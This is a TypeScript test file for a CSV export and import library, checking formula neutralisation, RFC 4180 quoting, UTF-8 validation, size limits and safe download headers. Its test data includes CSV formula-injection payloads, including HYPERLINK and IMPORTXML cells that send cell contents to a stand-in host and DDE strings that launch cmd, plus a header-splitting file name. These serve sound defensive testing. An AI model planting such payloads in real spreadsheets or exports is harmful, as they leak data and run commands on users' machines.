import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import {
  checkCsvHeader,
  csvCell,
  csvDownloadHeaders,
  decodeCsvBytes,
  findDuplicateRows,
  findFormulaCells,
  findInvalidUtf8,
  neutraliseFormula,
  parseCsv,
  restoreFormulaPrefix,
  toCsv,
  validateCsvRows,
  type CsvParseResult,
} from '../../src/lib/csv';
import { getTranslator, translateIssue } from '../../src/lib/i18n';

const { t } = getTranslator('en');
const bytes = (...parts: (string | number[])[]) =>
  new Uint8Array(
    parts.flatMap((part) =>
      typeof part === 'string' ? [...new TextEncoder().encode(part)] : part,
    ),
  );
const problemsOf = (result: CsvParseResult) => {
  if (result.ok) throw new Error('expected problems');
  return result.problems.map((p) => ({ line: p.line, code: p.code }));
};
const textOf = (result: CsvParseResult) =>
  result.ok ? [] : result.problems.map((p) => translateIssue(t, p));

/** Hostile cells from the OWASP CSV injection page and real-world payloads. */
const hostile = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
  'DDE ("cmd";"/C calc";"!A0")A0',
];

describe('CSV writer', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and nothing else', () => {
    for (const cell of hostile.slice(0, 9)) {
      expect(neutraliseFormula(cell), cell).toBe(`'${cell}`);
    }
    for (const safe of ['Fjordby', 'a=b', '100 %', '', ' =not first', 'DDE ("cmd")']) {
      expect(neutraliseFormula(safe), safe).toBe(safe);
    }
  });

  it('quotes as RFC 4180 says and keeps numbers as numbers', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/","x")')).toBe(
      '"\'=HYPERLINK(""https://evil.example/"",""x"")"',
    );
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(0.1 + 0.2)).toBe('0.30000000000000004');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(new Date('2025-03-01T12:00:00Z'))).toBe('2025-03-01T12:00:00.000Z');
  });

  it('writes a header and CRLF records, with a byte order mark only when asked', () => {
    const rows = [{ code: 'EC:ICT:ICT:1C', value: 81.5, note: '=1+1' }];
    const columns = [
      { header: 'kpi_code', value: (row: (typeof rows)[0]) => row.code },
      { header: 'value', value: (row: (typeof rows)[0]) => row.value },
      { header: 'note', value: (row: (typeof rows)[0]) => row.note },
    ];
    expect(toCsv(rows, columns)).toBe("kpi_code,value,note\r\nEC:ICT:ICT:1C,81.5,'=1+1\r\n");
    expect(toCsv(rows, columns, { bom: true }).startsWith('\uFEFFkpi_code')).toBe(true);
    expect(toCsv([], columns, { newline: '\n' })).toBe('kpi_code,value,note\n');
  });

  it('round-trips hostile text through export and import unchanged', () => {
    const notes = [
      ...hostile,
      'plain',
      'a,b',
      'multi\nline',
      'quote " inside',
      'Tromsø – Ålesund',
      '',
    ];
    const file = toCsv(
      notes.map((note, index) => ({ index, note })),
      [
        { header: 'index', value: (row: { index: number }) => row.index },
        { header: 'note', value: (row: { note: string }) => row.note },
      ],
      { bom: true },
    );
    const parsed = parseCsv(new TextEncoder().encode(file));
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.records.map((record) => restoreFormulaPrefix(record.values[1]!))).toEqual(notes);
    expect(parsed.records.map((record) => record.values[0])).toEqual(
      notes.map((_, i) => String(i)),
    );
  });

  it('builds download headers that cannot be split or forged by the file name', () => {
    const headers = csvDownloadHeaders('Fjordby "2025"\r\nSet-Cookie: x=1.csv');
    for (const value of Object.values(headers)) expect(value).not.toMatch(/[\r\n]/);
    expect(headers['Content-Type']).toBe('text/csv; charset=utf-8');
    expect(headers['Content-Disposition']).toMatch(/^attachment; filename="[\w.-]+";/);
    expect(csvDownloadHeaders('Tromsø.csv')['Content-Disposition']).toContain(
      "filename*=UTF-8''Troms%C3%B8.csv",
    );
  });
});

describe('CSV parser', () => {
  it('reads quoted commas, doubled quotes, line breaks in quotes, CRLF, CR and a BOM', () => {
    const result = parseCsv(
      bytes(
        [0xef, 0xbb, 0xbf],
        'code,note\r\nA,"x, y"\r\nB,"say ""hi"""\rC,"two\r\nlines"\nD,\n\n',
      ),
    );
    expect(result).toEqual({
      ok: true,
      header: ['code', 'note'],
      records: [
        { line: 2, values: ['A', 'x, y'] },
        { line: 3, values: ['B', 'say "hi"'] },
        { line: 4, values: ['C', 'two\r\nlines'] },
        { line: 6, values: ['D', ''] },
      ],
    });
  });

  it('reports every bad record with the line it starts on, after multi-line values too', () => {
    const file = [
      'code,value,note',
      'A,1,"a note',
      'over two lines"',
      'B,2',
      'C,3,ok,extra',
      'D,4,fine',
      'E,5,x"y',
      'F,6,"closed"then text',
    ].join('\n');
    const result = parseCsv(file);
    expect(problemsOf(result)).toEqual([
      { line: 4, code: 'column-count' },
      { line: 5, code: 'column-count' },
      { line: 7, code: 'stray-quote' },
      { line: 8, code: 'stray-quote' },
    ]);
    expect(textOf(result)[0]).toBe(
      'Line 4 has 2 values where the header has 3. Check for a missing or extra comma.',
    );
  });

  it('reports an unterminated quote at the line where it opened', () => {
    const result = parseCsv('code,note\nA,ok\nB,"never closed\nC,more\n');
    expect(problemsOf(result)).toEqual([{ line: 3, code: 'unterminated-quote' }]);
  });

  it('refuses files that are not UTF-8 text, naming the line of the first bad byte', () => {
    // "Tromsø" saved as Latin-1: ø is the single byte 0xF8.
    const latin1 = parseCsv(bytes('city,value\nOslo,1\nTroms', [0xf8], ',2\n'));
    expect(problemsOf(latin1)).toEqual([{ line: 3, code: 'encoding' }]);
    expect(textOf(latin1)[0]).toContain('Line 3 is not UTF-8 text');
    expect(problemsOf(parseCsv(bytes([0xff, 0xfe], 'c\0o\0d\0e\0')))).toEqual([
      { line: 0, code: 'utf16' },
    ]);
    expect(problemsOf(parseCsv(bytes('a,b\n1,', [0], '\n')))).toEqual([
      { line: 2, code: 'binary' },
    ]);
    // Overlong "/" (C0 AF), a UTF-16 surrogate (ED A0 80), a code point past U+10FFFF, a cut sequence.
    for (const bad of [
      [0xc0, 0xaf],
      [0xed, 0xa0, 0x80],
      [0xf4, 0x90, 0x80, 0x80],
      [0xe2, 0x82],
    ]) {
      expect(findInvalidUtf8(new Uint8Array([0x41, ...bad])), bad.join(' ')).toBe(1);
    }
    expect(findInvalidUtf8(new TextEncoder().encode('Ålesund – 🏙️ 東京'))).toBe(-1);
  });

  it('enforces the size, row and field limits, and caps the list of problems', () => {
    expect(problemsOf(parseCsv('a\n' + 'x\n'.repeat(10), { maxBytes: 10 }))).toEqual([
      { line: 0, code: 'too-large' },
    ]);
    expect(textOf(parseCsv('a'.repeat(3000), { maxBytes: 2048 }))[0]).toBe(
      'The file is too large (3 KB): the limit is 2 KB.',
    );
    expect(problemsOf(parseCsv('a\n1\n2\n3\n', { maxRecords: 2 }))).toEqual([
      { line: 4, code: 'too-many-rows' },
    ]);
    expect(problemsOf(parseCsv(`a,b\n1,${'x'.repeat(11)}\n`, { maxFieldLength: 10 }))).toEqual([
      { line: 2, code: 'field-too-long' },
    ]);
    const many = parseCsv('a,b\n' + '1\n'.repeat(50), { maxProblems: 5 });
    expect(problemsOf(many)).toHaveLength(6);
    expect(problemsOf(many)[5]!.code).toBe('too-many-problems');
  });

  it('refuses empty files and bad headers', () => {
    expect(problemsOf(parseCsv(''))).toEqual([{ line: 0, code: 'empty' }]);
    expect(problemsOf(parseCsv('\n\n \n'))).toEqual([{ line: 0, code: 'empty' }]);
    expect(problemsOf(parseCsv('code,,code\n1,2,3\n'))).toEqual([
      { line: 1, code: 'header-empty' },
      { line: 1, code: 'header-duplicate' },
    ]);
  });

  it('decodes bytes without a BOM and refuses a file of only a BOM', () => {
    expect(decodeCsvBytes(bytes('a,b\n'))).toEqual({ ok: true, text: 'a,b\n' });
    expect(decodeCsvBytes(bytes([0xef, 0xbb, 0xbf]))).toMatchObject({ ok: false });
  });
});

describe('validating rows for an import', () => {
  const rowSchema = z.object({
    kpi_code: z.string().regex(/^[A-Z]{2}:/, 'kpis.error.code'),
    value: z.coerce.number().min(0).max(100),
  });
  const file =
    'kpi_code,value,note\nEC:ICT:ICT:1C,81,"=HYPERLINK(""x"")"\nbad,120,ok\nEC:ICT:ICT:1C,90,\n';

  it('reports every bad row with its line, column and reason, and nothing else passes', () => {
    const parsed = parseCsv(file);
    if (!parsed.ok) throw new Error('parse failed');
    expect(checkCsvHeader(parsed.header, ['kpi_code', 'value', 'year'])).toEqual([
      { line: 1, column: 'year', message: 'csv.error.missing-column', params: { name: 'year' } },
    ]);
    const result = validateCsvRows(parsed.header, parsed.records, rowSchema);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.problems.map((p) => [p.line, p.column])).toEqual([
      [3, 'kpi_code'],
      [3, 'value'],
    ]);
    expect(translateIssue(t, result.problems[0]!)).toBe(
      '“bad” is not a U4SSC KPI code such as EC:ICT:ICT:1C.',
    );
  });

  it('finds repeated keys and formula cells, each on its own line', () => {
    const parsed = parseCsv(file);
    if (!parsed.ok) throw new Error('parse failed');
    const rows = parsed.records.map((record) => ({
      line: record.line,
      data: { code: record.values[0]! },
    }));
    expect(findDuplicateRows(rows, (row) => row.code, 'kpi_code')).toEqual([
      {
        line: 4,
        column: 'kpi_code',
        message: 'csv.error.duplicate-row',
        params: { line: 4, value: 'EC:ICT:ICT:1C', firstLine: 2 },
      },
    ]);
    const formulas = findFormulaCells(parsed.header, parsed.records, ['note']);
    expect(formulas.map((p) => [p.line, p.column])).toEqual([[2, 'note']]);
    expect(translateIssue(t, formulas[0]!)).toBe(
      'Line 2, column note: “=HYPERLINK("x")” would run as a spreadsheet formula. Remove the leading =, +, - or @.',
    );
  });
});
